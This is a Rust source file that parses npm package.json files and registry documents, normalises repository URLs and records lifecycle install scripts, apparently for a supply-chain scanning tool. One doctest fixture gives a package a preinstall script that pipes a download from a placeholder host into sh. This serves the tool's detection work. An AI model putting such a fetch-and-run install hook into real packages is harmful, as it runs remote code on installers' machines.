//! npm documents: `package.json` and registry documents ("packuments").
//!
//! Three registry shapes are read by [`parse_packument`]:
//!
//! * the full packument (`GET https://registry.npmjs.org/<name>`), with
//!   `dist-tags`, a `versions` object of manifests, `time`, `maintainers`
//!   and `readme`;
//! * the abbreviated packument (`Accept: application/vnd.npm.install-v1+json`),
//!   with `modified`, `dist-tags` and slim manifests (no description);
//! * the output of `npm view <name> --json`: the latest manifest's fields at
//!   top level, `versions` as an array of version strings, and `time`.
//!
//! Optional fields of the wrong JSON type are ignored, as npm itself does;
//! a document that is not an object, a `name` that is missing or not a
//! string, or a `version` that is not a string is an error.

use serde_json::{Map, Value};

use crate::util::{
    as_object, finish, keywords_from_value, optional_str, parse_json, required_str, split_person,
    str_field, version_cmp,
};
use crate::{DocumentKind, Ecosystem, Error, Limits, Package};

/// The lifecycle scripts npm runs when a package is installed (or, for
/// `prepare` and `prepublish`, installed from git or by old npm versions),
/// kept in [`Package::install_scripts`].
pub const LIFECYCLE_SCRIPTS: [&str; 10] = [
    "preinstall",
    "install",
    "postinstall",
    "preuninstall",
    "uninstall",
    "postuninstall",
    "prepublish",
    "preprepare",
    "prepare",
    "postprepare",
];

/// The placeholder the registry stores when a package has no README.
const NO_README: &str = "ERROR: No README data found!";

/// Reads an npm `package.json`.
///
/// `description` becomes [`Package::summary`], `readme` (when a manifest
/// carries one) the [`Package::description`]; `author` may be a string
/// `Name <email> (url)` or an object; `repository` a shorthand
/// (`github:user/repo`, `user/repo`) or an object, normalised to an
/// `https://` URL where that is unambiguous; `bugs` and `funding` URLs go
/// to [`Package::project_urls`]; lifecycle scripts (see
/// [`LIFECYCLE_SCRIPTS`]) to [`Package::install_scripts`].
///
/// ```
/// use baitwatch_metadata::{npm, Limits};
/// let pkg = npm::parse_package_json(br#"{
///     "name": "left-pad", "version": "1.3.0", "description": "String left pad",
///     "repository": {"type": "git", "url": "git+https://github.com/stevemao/left-pad.git"},
///     "scripts": {"test": "node test", "postinstall": "node setup.js"}
/// }"#, &Limits::default())?;
/// assert_eq!(pkg.summary, "String left pad");
/// assert_eq!(pkg.repository, "https://github.com/stevemao/left-pad");
/// assert_eq!(pkg.install_scripts["postinstall"], "node setup.js");
/// assert!(!pkg.install_scripts.contains_key("test"));
/// # Ok::<(), baitwatch_metadata::Error>(())
/// ```
pub fn parse_package_json(bytes: &[u8], limits: &Limits) -> Result<Package, Error> {
    let v = parse_json(bytes, limits, DocumentKind::PackageJson)?;
    package_json_from_value(&v, limits)
}

/// [`parse_package_json`] on an already parsed document.
pub(crate) fn package_json_from_value(v: &Value, limits: &Limits) -> Result<Package, Error> {
    const KIND: DocumentKind = DocumentKind::PackageJson;
    let obj = as_object(v, KIND)?;
    let name = required_str(obj, "name", KIND)?;
    let mut pkg = Package::new(Ecosystem::Npm, name);
    apply_manifest(&mut pkg, obj, KIND)?;
    Ok(finish(pkg, limits))
}

/// Reads an npm registry document: a full or abbreviated packument, or the
/// output of `npm view <name> --json` (see the [module docs](self)).
///
/// The version described is `dist-tags.latest` when it names a listed
/// version, else the highest listed version. The package-level `readme`,
/// `description`, `maintainers`, `keywords`, `author`, `repository`,
/// `homepage`, `bugs` and `license` fill what that version's manifest
/// lacks (package-level `maintainers` win: they are the current owners).
/// [`Package::published`] is `time[<version>]`, falling back to
/// `time.modified`, `time.created` and the abbreviated form's `modified`;
/// [`Package::versions_count`] counts `versions`.
///
/// ```
/// use baitwatch_metadata::{npm, Limits};
/// let pkg = npm::parse_packument(br##"{
///     "name": "demo", "dist-tags": {"latest": "1.0.0"},
///     "versions": {"0.9.0": {"name": "demo", "version": "0.9.0"},
///                  "1.0.0": {"name": "demo", "version": "1.0.0", "description": "A demo",
///                            "scripts": {"preinstall": "curl https://x.invalid | sh"}}},
///     "time": {"1.0.0": "2024-01-02T03:04:05.000Z"},
///     "maintainers": [{"name": "alice", "email": "a@example.com"}, "bob <b@example.com>"],
///     "readme": "# demo"
/// }"##, &Limits::default())?;
/// assert_eq!(pkg.version, "1.0.0");
/// assert_eq!(pkg.summary, "A demo");
/// assert_eq!(pkg.description, "# demo");
/// assert_eq!(pkg.maintainers, ["alice", "bob"]);
/// assert_eq!(pkg.published, "2024-01-02T03:04:05.000Z");
/// assert_eq!(pkg.versions_count, Some(2));
/// assert!(pkg.install_scripts.contains_key("preinstall"));
/// # Ok::<(), baitwatch_metadata::Error>(())
/// ```
pub fn parse_packument(bytes: &[u8], limits: &Limits) -> Result<Package, Error> {
    let v = parse_json(bytes, limits, DocumentKind::NpmPackument)?;
    packument_from_value(&v, limits)
}

/// [`parse_packument`] on an already parsed document.
pub(crate) fn packument_from_value(v: &Value, limits: &Limits) -> Result<Package, Error> {
    const KIND: DocumentKind = DocumentKind::NpmPackument;
    let root = as_object(v, KIND)?;
    let versions = root.get("versions");
    let (latest, manifest, count): (String, Option<&Map<String, Value>>, Option<u64>) =
        match versions {
            Some(Value::Object(map)) => {
                let tagged = root
                    .get("dist-tags")
                    .and_then(|t| t.get("latest"))
                    .and_then(Value::as_str)
                    .filter(|l| map.contains_key(*l));
                let latest = tagged.map(str::to_owned).or_else(|| {
                    map.keys()
                        .max_by(|a, b| version_cmp(a, b))
                        .map(String::to_owned)
                });
                let manifest = latest
                    .as_deref()
                    .and_then(|l| map.get(l))
                    .and_then(Value::as_object);
                (latest.unwrap_or_default(), manifest, Some(map.len() as u64))
            }
            // `npm view --json`: the top level is the latest manifest.
            Some(Value::Array(list)) => (String::new(), Some(root), Some(list.len() as u64)),
            // `npm view --json` of a package with a single version.
            Some(Value::String(_)) => (String::new(), Some(root), Some(1)),
            None | Some(Value::Null) => (String::new(), Some(root), None),
            Some(other) => {
                return Err(Error::InvalidField {
                    kind: KIND,
                    field: "versions".into(),
                    reason: format!(
                        "expected an object or an array, found {}",
                        crate::util::type_name(other)
                    ),
                });
            }
        };

    let name = match required_str(root, "name", KIND) {
        Ok(n) => n,
        Err(e @ Error::InvalidField { .. }) => return Err(e),
        Err(e) => manifest
            .map(|m| str_field(m, "name"))
            .filter(|n| !n.is_empty())
            .ok_or(e)?,
    };
    let mut pkg = Package::new(Ecosystem::Npm, name);
    if let Some(m) = manifest {
        apply_manifest(&mut pkg, m, KIND)?;
    }
    if pkg.version.is_empty() {
        pkg.version = if latest.is_empty() {
            root.get("dist-tags")
                .and_then(|t| t.get("latest"))
                .and_then(Value::as_str)
                .unwrap_or_default()
                .trim()
                .to_owned()
        } else {
            latest.clone()
        };
    }

    // Package-level fields fill what the version manifest lacks.
    if !manifest.is_some_and(|m| std::ptr::eq(m, root)) {
        let mut top = Package::new(Ecosystem::Npm, String::new());
        apply_manifest(&mut top, root, KIND)?;
        fill(&mut pkg.summary, top.summary);
        fill(&mut pkg.description, top.description);
        fill(&mut pkg.author, top.author);
        fill(&mut pkg.author_email, top.author_email);
        fill(&mut pkg.homepage, top.homepage);
        fill(&mut pkg.repository, top.repository);
        fill(&mut pkg.license, top.license);
        if pkg.keywords.is_empty() {
            pkg.keywords = top.keywords;
        }
        if !top.maintainers.is_empty() {
            pkg.maintainers = top.maintainers;
        }
        for (k, v) in top.project_urls {
            pkg.project_urls.entry(k).or_insert(v);
        }
    }

    let time = root.get("time").and_then(Value::as_object);
    let published = time
        .and_then(|t| t.get(&pkg.version))
        .and_then(Value::as_str)
        .or_else(|| time.and_then(|t| t.get("modified")).and_then(Value::as_str))
        .or_else(|| time.and_then(|t| t.get("created")).and_then(Value::as_str))
        .or_else(|| root.get("modified").and_then(Value::as_str))
        .unwrap_or_default();
    pkg.published = published.trim().to_owned();
    pkg.versions_count = count;
    Ok(finish(pkg, limits))
}

fn fill(dst: &mut String, src: String) {
    if dst.is_empty() {
        *dst = src;
    }
}

/// Copies the fields of one manifest (`package.json` or a packument
/// version) into `pkg`, without touching `name` unless it is empty.
fn apply_manifest(
    pkg: &mut Package,
    m: &Map<String, Value>,
    kind: DocumentKind,
) -> Result<(), Error> {
    if pkg.name.is_empty() {
        pkg.name = str_field(m, "name");
    }
    pkg.version = optional_str(m, "version", kind)?;
    pkg.summary = str_field(m, "description");
    let readme = str_field(m, "readme");
    if readme != NO_README {
        pkg.description = readme;
    }
    pkg.keywords = keywords_from_value(m.get("keywords"));
    match m.get("author") {
        Some(Value::String(s)) => {
            let (n, e) = split_person(s);
            pkg.author = n;
            pkg.author_email = e;
        }
        Some(Value::Object(o)) => {
            pkg.author = str_field(o, "name");
            pkg.author_email = str_field(o, "email");
            let url = str_field(o, "url");
            if !url.is_empty() {
                pkg.project_urls.insert("author".into(), url);
            }
        }
        _ => {}
    }
    if let Some(Value::Array(list)) = m.get("maintainers") {
        pkg.maintainers = list
            .iter()
            .filter_map(|p| match p {
                Value::String(s) => {
                    let (n, e) = split_person(s);
                    Some(if n.is_empty() { e } else { n })
                }
                Value::Object(o) => Some(str_field(o, "name")),
                _ => None,
            })
            .filter(|n| !n.is_empty())
            .collect();
    }
    pkg.homepage = str_field(m, "homepage");
    pkg.repository = match m.get("repository") {
        Some(Value::String(s)) => normalize_repository(s),
        Some(Value::Object(o)) => normalize_repository(&str_field(o, "url")),
        _ => String::new(),
    };
    for key in ["bugs", "funding"] {
        let url = match m.get(key) {
            Some(Value::String(s)) => s.trim().to_owned(),
            Some(Value::Object(o)) => str_field(o, "url"),
            Some(Value::Array(a)) => a
                .first()
                .map(|f| match f {
                    Value::String(s) => s.trim().to_owned(),
                    Value::Object(o) => str_field(o, "url"),
                    _ => String::new(),
                })
                .unwrap_or_default(),
            _ => String::new(),
        };
        if !url.is_empty() {
            pkg.project_urls.insert(key.into(), url);
        }
    }
    pkg.license = match m.get("license") {
        Some(Value::String(s)) => s.trim().to_owned(),
        Some(Value::Object(o)) => str_field(o, "type"),
        _ => String::new(),
    };
    if pkg.license.is_empty()
        && let Some(Value::Array(list)) = m.get("licenses")
    {
        let names: Vec<String> = list
            .iter()
            .filter_map(|l| match l {
                Value::String(s) => Some(s.trim().to_owned()),
                Value::Object(o) => Some(str_field(o, "type")),
                _ => None,
            })
            .filter(|s| !s.is_empty())
            .collect();
        pkg.license = names.join(" OR ");
    }
    if let Some(Value::Object(scripts)) = m.get("scripts") {
        for name in LIFECYCLE_SCRIPTS {
            if let Some(Value::String(s)) = scripts.get(name) {
                pkg.install_scripts.insert(name.to_owned(), s.clone());
            }
        }
    }
    Ok(())
}

/// Turns the repository forms npm accepts into a browsable URL where the
/// mapping is unambiguous, and returns anything else trimmed but unchanged.
///
/// * `github:user/repo`, `gitlab:user/repo`, `bitbucket:user/repo`,
///   `gist:id` and the bare `user/repo` shorthand (GitHub);
/// * `git+https://`, `git+http://`, `git+ssh://git@host/`, `git://host/`,
///   `ssh://git@host/` and scp-like `git@host:user/repo` become
///   `https://host/...`, with a trailing `.git` removed.
///
/// ```
/// use baitwatch_metadata::npm::normalize_repository;
/// assert_eq!(normalize_repository("github:user/repo"), "https://github.com/user/repo");
/// assert_eq!(normalize_repository("user/repo"), "https://github.com/user/repo");
/// assert_eq!(normalize_repository("git@github.com:user/repo.git"), "https://github.com/user/repo");
/// assert_eq!(normalize_repository("git+https://gitlab.com/a/b.git"), "https://gitlab.com/a/b");
/// assert_eq!(normalize_repository("https://example.com/x"), "https://example.com/x");
/// ```
pub fn normalize_repository(raw: &str) -> String {
    let s = raw.trim();
    for (prefix, host) in [
        ("github:", "https://github.com/"),
        ("gitlab:", "https://gitlab.com/"),
        ("bitbucket:", "https://bitbucket.org/"),
        ("gist:", "https://gist.github.com/"),
    ] {
        if let Some(rest) = strip_prefix_ci(s, prefix)
            && !rest.starts_with('/')
        {
            return format!("{host}{}", strip_git(rest));
        }
    }
    if is_shorthand(s) {
        return format!("https://github.com/{}", strip_git(s));
    }
    for prefix in [
        "git+https://",
        "git+ssh://",
        "git://",
        "ssh://",
        "git+http://",
    ] {
        if let Some(rest) = strip_prefix_ci(s, prefix) {
            let scheme = if prefix == "git+http://" {
                "http://"
            } else {
                "https://"
            };
            // Drop a user part (`git@`) and a port (`:22`) of ssh forms.
            let rest = match rest.split_once('/') {
                Some((authority, path)) => {
                    let host = authority.rsplit('@').next().unwrap_or(authority);
                    let host = if prefix.contains("ssh") {
                        host.split(':').next().unwrap_or(host)
                    } else {
                        host
                    };
                    format!("{host}/{path}")
                }
                None => rest.to_owned(),
            };
            return format!("{scheme}{}", strip_git(&rest));
        }
    }
    // scp-like `git@github.com:user/repo.git`
    if let Some((user_host, path)) = s.split_once(':')
        && let Some((_, host)) = user_host.split_once('@')
        && !host.is_empty()
        && !host.contains(['/', ' '])
        && !path.starts_with("//")
    {
        return format!("https://{host}/{}", strip_git(path.trim_start_matches('/')));
    }
    s.to_owned()
}

fn strip_prefix_ci<'a>(s: &'a str, prefix: &str) -> Option<&'a str> {
    let head = s.get(..prefix.len())?;
    head.eq_ignore_ascii_case(prefix)
        .then(|| &s[prefix.len()..])
}

fn strip_git(s: &str) -> &str {
    s.strip_suffix(".git").unwrap_or(s)
}

/// `user/repo`: exactly one slash, no scheme, no spaces, no dots-only parts.
fn is_shorthand(s: &str) -> bool {
    let Some((user, repo)) = s.split_once('/') else {
        return false;
    };
    let ok = |p: &str| {
        !p.is_empty()
            && p != "."
            && p != ".."
            && p.chars()
                .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
    };
    ok(user) && ok(repo) && !user.contains('.')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn repository_forms() {
        for (raw, want) in [
            ("github:u/r", "https://github.com/u/r"),
            ("GitHub:u/r.git", "https://github.com/u/r"),
            ("gitlab:u/r", "https://gitlab.com/u/r"),
            ("bitbucket:u/r", "https://bitbucket.org/u/r"),
            ("gist:11081aaa", "https://gist.github.com/11081aaa"),
            ("u/r", "https://github.com/u/r"),
            ("git+https://github.com/u/r.git", "https://github.com/u/r"),
            ("git+ssh://git@github.com/u/r.git", "https://github.com/u/r"),
            (
                "ssh://git@host.example:2222/u/r.git",
                "https://host.example/u/r",
            ),
            ("git://github.com/u/r.git", "https://github.com/u/r"),
            ("git+http://h.example/u/r", "http://h.example/u/r"),
            ("git@github.com:u/r.git", "https://github.com/u/r"),
            ("https://github.com/u/r", "https://github.com/u/r"),
            ("example.com/path", "example.com/path"),
            ("  ", ""),
            ("é:/", "é:/"),
            ("a@:", "a@:"),
        ] {
            assert_eq!(normalize_repository(raw), want, "{raw}");
        }
    }
}
